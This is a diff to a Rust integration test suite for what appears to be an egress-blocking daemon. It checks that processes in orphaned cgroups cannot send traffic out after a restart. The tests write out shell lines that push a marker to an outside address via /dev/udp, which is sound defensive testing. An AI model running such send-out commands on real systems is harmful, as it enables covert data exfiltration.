@@ -15,7 +15,7 @@ use crate::{
     talker::Talker,
 };
 use std::{
-    path::Path,
+    fs,
     sync::atomic::{AtomicBool, Ordering},
     time::Duration,
 };
@@ -196,20 +196,23 @@ fn agents_that_start_and_end_while_the_daemon_dies_leave_nothing_behind() {
 fn a_cgroup_that_a_daemon_did_not_live_to_remember_goes_unless_something_lives_there() {
     let mut fence = fence(COMMON);
     fence.kill();
-    let root = fence.lab().run(&format!("find /sys/fs/cgroup -name egressd-{} -type d", fence.lab().name()));
-    let root = root.stdout.trim_end();
-    let (empty, inhabited) = (format!("{root}/agent.900"), format!("{root}/agent.901"));
-    let made = fence.lab().run(&format!("mkdir -p {empty}/below {inhabited}"));
-    assert!(made.succeeded(), "{made:#?}");
-    let enter = format!("echo $$ > {inhabited}/cgroup.procs && echo in");
+    let [empty, inhabited] = ["agent.900", "agent.901"].map(|name| fence.cgroup().join(name));
+    for folder in [&empty.join("below"), &inhabited] {
+        fs::create_dir_all(folder).expect("cgroups can be made");
+    }
+    let enter = format!("echo $$ > {}/cgroup.procs && echo in", inhabited.display());
     let inhabitant = fence.lab().command(&["bash", "-c", &format!("{enter} && exec sleep 60")]);
     let inhabitant = Program::start(inhabitant);
     poll("a process in the cgroup", || inhabitant.stdout().contains("in").then_some(()));
     fence.restart();
-    assert!(!Path::new(&empty).exists(), "nothing needs it");
-    assert!(Path::new(&inhabited).exists(), "something lives there");
-    let denied = fence.lab().run(&format!("{enter}; echo x > /dev/udp/10.99.0.11/9000"));
+    assert!(!empty.exists(), "nothing needs it");
+    assert!(inhabited.exists(), "something lives there");
+    let mark = mark();
+    let script = format!("{enter}; echo {mark} > /dev/udp/10.99.0.66/9000");
+    let (denied, frames) = violations(fence.lab(), &mark, || fence.lab().run(&script));
     assert!(denied.says("in\n") && denied.says("not permitted"), "it is nobody's agent: {denied:#?}");
+    assert!(frames.is_empty(), "it is nobody's agent, and leaked: {frames:#?}");
+    leaks(fence.lab(), EVIL, &["echo {mark} > /dev/udp/{v4}/9000"]);
 }
 
 #[test]
@@ -286,15 +289,13 @@ impl Holdings {
     fn of(fence: &Fence) -> Self {
         let agents = fence.ctl(&["agents", "-o", "json"]).stdout;
         let count = |script: &str| fence.lab().run(script).stdout.lines().count();
-        let (run, name) = (fence.socket(), fence.lab().name());
+        let run = fence.socket();
         let run = run.parent().expect("the socket is in a folder").display();
         Self {
             agents: agents.lines().count(),
             sealed: agents.lines().filter(|agent| agent.contains(r#""boundary":"sealed""#)).count(),
             remembered: count(&format!("find {run}/agents -name '*.json'")),
-            cgroups: count(&format!(
-                "find /sys/fs/cgroup -path '*/egressd-{name}/*' -type d -prune ! -name .canary"
-            )),
+            cgroups: fence.agent_cgroups().len(),
             cells: count(&format!("find {run}/cells -mindepth 1 -maxdepth 1")),
             links: count("ip -o link"),
         }
